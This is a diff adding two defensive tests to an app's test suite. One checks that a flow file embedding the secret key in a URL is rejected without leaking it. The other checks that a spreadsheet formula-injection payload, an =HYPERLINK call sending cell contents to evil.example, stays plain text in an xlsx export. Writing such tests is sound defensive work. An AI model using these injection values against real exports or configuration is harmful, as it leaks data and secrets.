@@ -17,9 +17,11 @@ import statistics
 import time
 import uuid
 from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
 
 import pytest
 import requests
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 from sinyal.doctor import Status, check_exposure, outside_addresses
@@ -30,6 +32,7 @@ from sinyal.settings import PROJECT_DIR
 from sinyal.store import Store
 from sinyal.store.models import Conversation, ErasureRequest, Lead, Notification
 from tests.chat_widget import Widget
+from tests.helpers import run_sinyal
 from tests.system.conftest import RunningSystem, tracker
 from tests.telegram_api import TelegramApiStandIn
 
@@ -165,6 +168,50 @@ def test_fifty_strangers_asking_for_a_person_are_one_notification_per_place(
         notifications = len(s.scalars(select(Notification.id)).all()) - before
     assert leads == 50  # every request is kept for the dashboard
     assert notifications == 2  # the team's email, once per place for all fifty
+
+
+def test_a_flow_file_cannot_read_a_secret(system: RunningSystem, tmp_path: Path) -> None:
+    """Marketing edits flows; a ``${SINYAL_SECRET_KEY}`` in one would show the key on /flows."""
+    flow = tmp_path / "leaky.yml"
+    flow.write_text(
+        "name: leaky\n"
+        "sources:\n"
+        "  - type: greenhouse\n"
+        "    board: acme\n"
+        '    base_url: "https://example.com/${SINYAL_SECRET_KEY}"\n'
+        "variants:\n"
+        "  - key: A\n"
+        "    body: Hello\n"
+    )
+    result = run_sinyal("flows", "validate", str(flow), env=system.env)
+    output = result.stdout + result.stderr
+    assert result.returncode != 0
+    assert f"{flow.name}:5" in output and "SINYAL_SECRET_KEY" in output
+    assert system.secret not in output
+
+
+def test_a_formula_typed_as_an_answer_stays_text_in_the_export(
+    system: RunningSystem, store: Store, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with store.transaction() as s:
+        conversation = Conversation(sender_id=f"w.formula-{uuid.uuid4().hex}", channel="website")
+        s.add(conversation)
+        s.flush()
+        s.add(
+            Lead(
+                conversation_id=conversation.id,
+                company_name="=1+1",
+                answers={"hiring_roles": formula},
+                status="qualified",
+            )
+        )
+    out = tmp_path / "leads.xlsx"
+    result = run_sinyal("leads", "export", "--format", "xlsx", "--output", str(out), env=system.env)
+    assert result.returncode == 0, result.stderr
+    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
+    found = [c for c in cells if c.value in (formula, "=1+1")]
+    assert len(found) == 2 and all(c.data_type == "s" for c in found)
 
 
 ARTIFACTS = PROJECT_DIR / "test-artifacts" / "security"
